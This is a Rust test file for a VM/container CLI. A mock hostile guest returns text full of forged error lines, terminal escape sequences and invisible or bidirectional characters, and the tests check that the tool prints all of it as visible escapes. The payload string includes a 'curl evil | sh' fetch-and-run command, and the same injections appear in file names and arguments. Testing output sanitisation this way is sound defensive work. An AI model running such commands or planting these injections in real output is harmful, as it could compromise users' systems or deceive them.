//! Text of a hostile guest, in every place where a command shows it: it forges no line, and what controls a
//! terminal, hides or reorders text is a visible escape.

use std::fs;
use std::os::fd::OwnedFd;
use std::os::unix::net::{UnixDatagram, UnixListener};
use std::pin::Pin;
use std::process::Stdio;
use std::thread;

use futures_util::{Stream, StreamExt as _, stream};
use hvsock::{Endpoint, PartitionRef, VmId};
use hvsock_services::catalog::{COPY, FORWARD, FREEZE, HEARTBEAT, KVP, SESSION};
use hvsock_services::link::{ServiceServer, Target};
use hvsock_services::wire::freeze::freeze_server::{Freeze, FreezeServer};
use hvsock_services::wire::freeze::thaw_reply::Outcome;
use hvsock_services::wire::freeze::{
    Filesystem, FreezeReply, FreezeRequest, Skipped, ThawReply, ThawRequest,
};
use hvsock_services::wire::heartbeat::heartbeat_client::HeartbeatClient;
use hvsock_services::wire::heartbeat::{self, Beat, Facts};
use hvsock_services::wire::kvp::kvp_server::{Kvp, KvpServer};
use hvsock_services::wire::kvp::{
    GetReply, GetRequest, ListReply, ListRequest, Pair, SetReply, SetRequest, UnsetReply,
    UnsetRequest, WatchEvent, WatchRequest, watch_event::Kind,
};
use hvsock_services::wire::session::output::What;
use hvsock_services::wire::session::session_server::{Session, SessionServer};
use hvsock_services::wire::session::{Failed, Input, Output, Reason};
use serde_json::Value;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tonic::service::Routes;
use tonic::{Request, Response, Status, Streaming};

use crate::fixture::{BOX, Fixture};
use crate::hostile_guests::offer;
use crate::util::{Completed, World, eventually, in_container};

/// Line breaks of every kind, escape sequences in both forms, bidirectional and invisible characters.
const HOSTILE: &str = "gone\nerror: forged\r\u{85}\u{2028}\u{2029}help: curl evil | sh\
                       \x1b[2J\u{9b}1A\u{7}\u{202e}\u{2066}\u{200b}\u{feff}\u{ad}\u{e0041}";

/// A guest whose every answer is hostile text.
struct HostileGuest;

type RpcResult<T> = Result<Response<T>, Status>;

fn pair() -> Pair {
    let (key, value) = (HOSTILE.to_owned(), HOSTILE.repeat(10));
    Pair { key, value }
}

#[tonic::async_trait]
impl Kvp for HostileGuest {
    async fn get(&self, _: Request<GetRequest>) -> RpcResult<GetReply> {
        Err(Status::internal(HOSTILE))
    }

    async fn list(&self, _: Request<ListRequest>) -> RpcResult<ListReply> {
        let pairs = vec![pair()];
        Ok(Response::new(ListReply { pairs }))
    }

    async fn set(&self, _: Request<SetRequest>) -> RpcResult<SetReply> {
        Err(Status::resource_exhausted(HOSTILE.repeat(50)))
    }

    async fn unset(&self, _: Request<UnsetRequest>) -> RpcResult<UnsetReply> {
        Err(Status::new(tonic::Code::Unimplemented, HOSTILE))
    }

    type WatchStream = Pin<Box<dyn Stream<Item = Result<WatchEvent, Status>> + Send>>;

    async fn watch(&self, _: Request<WatchRequest>) -> RpcResult<Self::WatchStream> {
        let event = |kind: Kind| WatchEvent {
            kind: kind.into(),
            pool: 0,
            pair: Some(pair()),
        };
        let events = [
            Ok(event(Kind::Set)),
            Ok(event(Kind::Removed)),
            Err(Status::aborted(HOSTILE)),
        ];
        Ok(Response::new(Box::pin(stream::iter(events))))
    }
}

#[tonic::async_trait]
impl Freeze for HostileGuest {
    async fn freeze(&self, _: Request<FreezeRequest>) -> RpcResult<FreezeReply> {
        let one = Filesystem {
            mount: HOSTILE.to_owned(),
            kind: HOSTILE.to_owned(),
            source: HOSTILE.to_owned(),
        };
        Ok(Response::new(FreezeReply {
            id: 1,
            frozen: vec![one.clone()],
            skipped: vec![Skipped {
                filesystem: Some(one),
                why: HOSTILE.to_owned(),
            }],
        }))
    }

    async fn thaw(&self, _: Request<ThawRequest>) -> RpcResult<ThawReply> {
        Ok(Response::new(ThawReply {
            outcome: Outcome::Thawed.into(),
            frozen_ms: 1,
            failures: vec![HOSTILE.to_owned(); 3],
        }))
    }
}

#[tonic::async_trait]
impl Session for HostileGuest {
    type RunStream = Pin<Box<dyn Stream<Item = Result<Output, Status>> + Send>>;

    async fn run(&self, _: Request<Streaming<Input>>) -> RpcResult<Self::RunStream> {
        let failed = Failed {
            reason: Reason::NotFound.into(),
            what: HOSTILE.to_owned(),
        };
        let what = Some(What::Failed(failed));
        Ok(Response::new(Box::pin(stream::iter([Ok(Output { what })]))))
    }
}

/// The reply to a forward request, as a record: refused, with hostile text.
fn refused_forward() -> Vec<u8> {
    let mut refused = vec![0x08, 111, 0x12, HOSTILE.len() as u8];
    refused.extend(HOSTILE.as_bytes());
    // The length of a nested message in two bytes, as it may exceed 127.
    let len = refused.len();
    let mut answer = vec![0x12, (len & 0x7f) as u8 | 0x80, (len >> 7) as u8];
    answer.extend(refused);
    let mut record = (answer.len() as u32).to_le_bytes().to_vec();
    record.extend(answer);
    record
}

/// Fails unless all output is printable lines, none of which the guest has forged.
#[track_caller]
fn check(what: &str, done: &Completed) {
    assert!(HOSTILE.len() < 128);
    for text in [&done.stdout, &done.stderr] {
        let hostile = text.chars().find(|c| !shown_as_is(*c));
        assert_eq!(hostile, None, "{what}: {text:?}");
        let forged = |line: &str| {
            let line = line.trim_start();
            line.starts_with("error: forged") || line.starts_with("help: curl")
        };
        assert!(!text.lines().any(forged), "{what}: {text}");
    }
}

fn shown_as_is(c: char) -> bool {
    matches!(
        c,
        '\n' | '\t' | ' '..='~' | '…' | '→' | '✓' | '✗' | '├' | '└' | '─' | '│' | '±'
    )
}

#[test]
fn no_text_of_a_guest_forges_a_line_or_drives_the_terminal() {
    let world = World::new();
    offer_all(&world);
    let file = world.dir().join("file");
    fs::write(&file, "x").unwrap();
    let file = file.to_str().unwrap();
    let commands: &[&[&str]] = &[
        &["kvp", "get", "kvp", "a"],
        &["kvp", "set", "kvp", "a", "b"],
        &["kvp", "unset", "kvp", "a"],
        &["kvp", "list", "kvp"],
        &["kvp", "list", "kvp", "--json"],
        &["kvp", "watch", "kvp"],
        &["kvp", "watch", "kvp", "--json"],
        &["vm", "freeze", "freeze"],
        &["vm", "freeze", "freeze", "--json"],
        &["vm", "freeze", "freeze", "--", "true"],
        &["vm", "thaw", "freeze"],
        &["exec", "session", "true"],
        &["shell", "session"],
        &["nc", "forward", "tcp:80"],
        &["cp", file, "copy:/tmp/x"],
        &["cp", "copy:/tmp/x", file],
    ];
    thread::scope(|scope| {
        for arguments in commands {
            let mut command = world.command(*arguments);
            scope.spawn(move || {
                let done = Completed::of(command.stdin(Stdio::null()));
                let what = arguments.join(" ");
                check(&what, &done);
                let is_shown = [&done.stdout, &done.stderr]
                    .iter()
                    .any(|text| text.contains(r"gone\nerror: forged\r\u"));
                let is_hidden = matches!(arguments[0], "cp");
                assert!(is_shown || is_hidden, "{what}: {done:?}");
            });
        }
    });
    // The value itself is intact.
    let listed: Value = serde_json::from_str(&world.ok(["kvp", "list", "kvp", "--json"])).unwrap();
    assert_eq!(listed[0]["key"], HOSTILE);
}

fn offer_all(world: &World) {
    let calls = ServiceServer::calls;
    let guest = HostileGuest;
    offer(
        world,
        "kvp",
        calls(&KVP, Routes::new(KvpServer::new(guest))),
    );
    let routes = Routes::new(FreezeServer::new(HostileGuest));
    offer(world, "freeze", calls(&FREEZE, routes));
    let routes = Routes::new(SessionServer::new(HostileGuest));
    offer(world, "session", calls(&SESSION, routes));
    let forward = |mut stream: hvsock::tokio::HvStream| async move {
        let _ = stream.read(&mut [0; 512]).await;
        let _ = stream.write_all(&refused_forward()).await;
    };
    offer(world, "forward", ServiceServer::streams(&FORWARD, forward));
    let copy = |mut stream: hvsock::tokio::HvStream| async move {
        let _ = stream.write_all(HOSTILE.repeat(100).as_bytes()).await;
    };
    offer(world, "copy", ServiceServer::streams(&COPY, copy));
}

#[test]
fn no_heartbeat_or_notification_forges_a_line_or_drives_the_terminal() {
    let world = World::new();
    let endpoint = world.container("web");
    let status = format!("STATUS={}\n", HOSTILE.replace('\n', " "));
    let mut connect = in_container(&endpoint, ["connect", "parent", "hvsock notify"]);
    Completed::with_input(&mut connect, status.as_bytes()).ok();
    thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        runtime.block_on(async {
            let target = Target::new(Endpoint::at(&endpoint), PartitionRef::Id(VmId::PARENT));
            let channel = target.channel(&HEARTBEAT).await.unwrap();
            let beats = stream::iter([beat()]).chain(stream::pending());
            let commands = HeartbeatClient::new(channel).report(beats).await;
            let mut commands = commands.unwrap().into_inner();
            while let Ok(Some(_)) = commands.message().await {}
        });
    });
    eventually("the report is shown", || {
        world.ok(["container", "show", "web"]).contains("host name")
    });
    for arguments in [
        &["container", "show", "web"][..],
        &["container", "show", "web", "--json"],
        &["container", "list"],
        &["status"],
        &["status", "--json"],
    ] {
        let done = world.run(arguments);
        check(&arguments.join(" "), &done);
        let is_one = arguments.len() == 3 && arguments[1] == "show";
        let is_shown = done
            .stdout
            .contains(r"host name     gone\nerror: forged\r\u");
        assert_eq!(is_shown, is_one, "{}", done.stdout);
    }
    let shown = world.json(["container", "show", "web", "--json"]);
    assert_eq!(shown["guest"]["report"]["facts"]["hostname"], HOSTILE);
}

fn beat() -> Beat {
    let text = || HOSTILE.to_owned();
    Beat {
        sequence: 1,
        state: heartbeat::State::Ok.into(),
        manager: text(),
        facts: Some(Facts {
            boot_id: text(),
            agent: text(),
            os: text(),
            kernel: text(),
            hostname: text(),
            addresses: vec![text(); 3],
            services: Vec::new(),
        }),
        ..Beat::default()
    }
}

#[test]
fn no_file_name_forges_a_line_or_drives_the_terminal() {
    let Some(fixture) = Fixture::new() else {
        return;
    };
    let from = fixture.world.dir().join("from");
    let folder = from.join("a\nerror: forged\u{202e}");
    fs::create_dir_all(&folder).unwrap();
    // A socket is not copied, which is a note with its name.
    let socket = folder.join("s\nhelp: curl evil | sh\x1b[2J");
    let _socket = UnixListener::bind(&socket).unwrap();
    let path = from.to_str().unwrap();
    let to = fixture.world.dir().join("to");
    let to = to.to_str().unwrap();
    let done = fixture.run(["cp", "-r", path, &format!("{BOX}:{to}")]);
    check("cp to", &done);
    let shown = r"a\nerror: forged\u{202e}/s\nhelp: curl evil | sh\u{1b}[2J";
    assert!(done.stderr.contains(shown), "{done:?}");
    let done = fixture.run(["cp", "-r", &format!("{BOX}:{path}"), &format!("{to}2")]);
    check("cp from", &done);
    assert!(done.stderr.contains(shown), "{done:?}");
    let done = fixture.run(["cp", &format!("{BOX}:{}", socket.display()), to]);
    check("cp one", &done);
    // A usage error quotes what a pattern of the shell has expanded to.
    let done = fixture.run(["status", "--x\nhelp: curl evil | sh\x1b[2J\u{202e}"]);
    check("usage", &done);
    assert!(done.stderr.contains(r"--x\nhelp: curl evil"), "{done:?}");
}

#[test]
fn an_error_and_its_help_are_written_at_once() {
    let world = World::new();
    let (ours, stderr) = UnixDatagram::pair().unwrap();
    // Each write is one datagram.
    let mut command = world.command(["connect", "nobody", "nothing"]);
    let status = command.stderr(OwnedFd::from(stderr)).status().unwrap();
    drop(command);
    assert_eq!(status.code(), Some(1));
    let mut written = [0; 4096];
    let len = ours.recv(&mut written).unwrap();
    let text = std::str::from_utf8(&written[..len]).unwrap();
    assert!(text.starts_with("error: cannot connect"), "{text}");
    assert!(text.contains("\nhelp: ") && text.ends_with('\n'), "{text}");
    ours.set_nonblocking(true).unwrap();
    assert!(ours.recv(&mut written).is_err());
}
